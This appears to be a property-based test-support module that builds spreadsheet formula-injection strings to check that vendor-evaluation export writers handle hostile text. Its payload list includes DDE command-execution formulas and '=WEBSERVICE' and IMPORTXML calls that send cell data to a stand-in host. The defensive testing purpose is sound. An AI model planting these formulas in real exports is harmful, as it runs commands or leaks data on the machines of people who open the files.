import * as fc from "fast-check";
import type { Evaluation } from "../../shared/schema/evaluation";
import type { Review } from "../../shared/schema/review";
import type { Vendor } from "../../shared/schema/vendor";
import { makeEvaluation, makeReview, makeVendor } from "../support/bridge/records";

/** What a spreadsheet reads as the start of a formula (or DDE command) when a cell is typed or imported. */
export const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"] as const;

/** Known payloads from CSV/formula-injection write-ups, and the issue's own examples. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example","x")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+SUM(A1:A9)",
  "-1+cmd|' /C calc'!A0",
  "@cmd",
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '="=1"&"+1"',
  "=A1",
  "=TRUE",
  "-",
  "+",
  "=",
  "@",
  "\t",
  "=\u0000",
  "=1\r\n=2",
  "=_xlfn.VENDORSCORE(A1:A2,B1:B2)",
] as const;

/**
 * Characters XML 1.0 cannot carry (C0 controls but tab and line feed, CR, U+FFFE, U+FFFF, lone
 * surrogates), and text ExcelJS reads back as an escape (`_x000D_`). Text of these can change on a
 * round trip through an .xlsx; `xmlSafeFormulaLikeText` leaves them out so its round trip can be exact, and
 * `anyFormulaLikeText` keeps them for the checks that must hold whatever the text is.
 */
export function isXmlSafe(text: string): boolean {
  if (/_x[0-9A-Fa-f]{4}_/.test(text)) return false;
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    if (unit < 0x20 && unit !== 0x09 && unit !== 0x0a) return false;
    if (unit === 0xfffe || unit === 0xffff) return false;
    if (unit >= 0xd800 && unit <= 0xdbff) {
      const next = text.charCodeAt(i + 1);
      if (!(next >= 0xdc00 && next <= 0xdfff)) return false;
      i++;
    } else if (unit >= 0xdc00 && unit <= 0xdfff) return false;
  }
  return true;
}

/** A body to follow a formula start: arbitrary text or a formula-looking tail. */
const tail = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 30 }),
  fc.constantFrom(
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example","x")',
    "cmd|' /C calc'!A0",
    "A1",
    "1",
    "=1",
    "+1",
    "  x",
  ),
);

/** Strings that start like a formula, of any UTF-16 code units after the start. */
export const anyFormulaLikeText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...FORMULA_STARTS), fc.string({ unit: "binary", maxLength: 40 }))
  .map(([start, rest]) => start + rest);

/** Strings that start like a formula: the examples and generated ones, CR and tab included. */
export const formulaLikeText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...FORMULA_PAYLOADS), weight: 1 },
  {
    arbitrary: fc.tuple(fc.constantFrom(...FORMULA_STARTS), tail).map(([start, rest]) => start + rest),
    weight: 3,
  },
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...FORMULA_STARTS), fc.constantFrom(...FORMULA_STARTS), tail)
      .map(([a, b, rest]) => a + b + rest),
    weight: 1,
  },
);

/** As `formulaLikeText`, of characters an .xlsx round-trips exactly. */
export const xmlSafeFormulaLikeText: fc.Arbitrary<string> = formulaLikeText.filter(isXmlSafe);

export interface HostileLibrary {
  evaluation: Evaluation;
  vendors: Vendor[];
  reviews: Review[];
}

/**
 * An evaluation whose vendors are named by `texts` (one vendor per text), with notes, review titles,
 * review bodies and criterion names drawn from the same texts. Records are made valid through the
 * schemas first and the hostile text is put in afterwards, so a leading tab or CR that the schemas
 * would trim still reaches the writers (they must cope with any string).
 */
export function hostileLibrary(texts: readonly string[]): HostileLibrary {
  const at = (i: number) => texts[i % texts.length] ?? "=1";
  const vendors = texts.map((text, i) => ({ ...makeVendor(i), name: text, notes: at(i + 1) }));
  const reviews = texts.map((text, i) => ({
    ...makeReview(`vendor-${i}`, i),
    title: text,
    body: at(i + 2),
  }));
  const base = makeEvaluation(vendors.map((vendor) => vendor.id));
  const evaluation: Evaluation = {
    ...base,
    criteria: base.criteria.map((criterion, i) => (i < 2 ? { ...criterion, name: at(i) } : criterion)),
  };
  return { evaluation, vendors, reviews };
}
